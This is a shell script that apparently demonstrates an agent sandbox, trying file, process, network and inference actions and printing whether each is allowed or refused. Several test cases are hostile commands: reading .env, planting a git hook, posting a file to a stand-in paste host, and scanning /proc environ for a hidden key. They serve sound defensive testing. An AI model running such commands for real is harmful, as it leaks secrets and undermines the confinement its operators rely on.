# The tour's agent: a few things that agents do, some of which they should not.
try() { # words, then a command: says whether it worked
  words=$1; shift
  if out=$("$@" 2>&1); then printf 'ok       %s\n' "$words"; else printf 'refused  %s\n' "$words"; fi
}
web() { # words, then arguments of curl: says the status, and the reason of a refusal
  words=$1; shift
  body=$(curl -sS -m 10 -w '\n%{http_code}' "$@" 2>&1); status=${body##*
}
  case $status in
    2*) printf 'ok       %s\n' "$words" ;;
    403) printf 'refused  %s\n' "$words"; printf '%s' "$body" | sed -n 's/^ *"detail": "\(.*\)",$/\1/p' | sed 's/\\n  to allow it.*//; s/\\n */; /g; s/^/           /' ;;
    *) printf 'refused  %s (%s)\n' "$words" "$(printf '%s' "$body" | head -n 1)" ;;
  esac
}
echo "files"
try "write into the workspace" sh -c 'echo hello > notes.txt'
try "read a file beside the workspace" cat "$OUTSIDE"
try "read .env" cat .env
try "plant a git hook" sh -c 'echo evil > .git/hooks/post-checkout'
try "change a system file" sh -c 'echo x >> /etc/hosts'
echo "processes"
try "become root in a new namespace" unshare -Ur true
try "stop something outside" kill -0 "$OUTSIDE_PID"
echo "network (no proxy is configured anywhere)"
web "GET  https://api.demo.test/repos/creel" https://api.demo.test/repos/creel
web "DELETE the same" -X DELETE https://api.demo.test/repos/creel
web "POST a secret to https://paste.demo.test" -d @notes.txt https://paste.demo.test/
web "connect to an address of its own choice" -k https://1.1.1.1/
echo "inference (the agent holds no key)"
web "ask a model at https://inference.local" -H 'content-type: application/json' -d '{"model":"demo-model","messages":[{"role":"user","content":"hi"}]}' https://inference.local/v1/chat/completions
try "find the key" sh -c 'cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -q 'only-the-backend-[k]nows''
web "GET  https://docs.demo.test/guide, which no rule names" https://docs.demo.test/guide
echo WAITING-FOR-A-LIVE-CHANGE
n=0; while [ ! -e changed ] && [ $n -lt 200 ]; do sleep 0.05; n=$((n + 1)); done
web "GET  https://docs.demo.test/guide again" https://docs.demo.test/guide
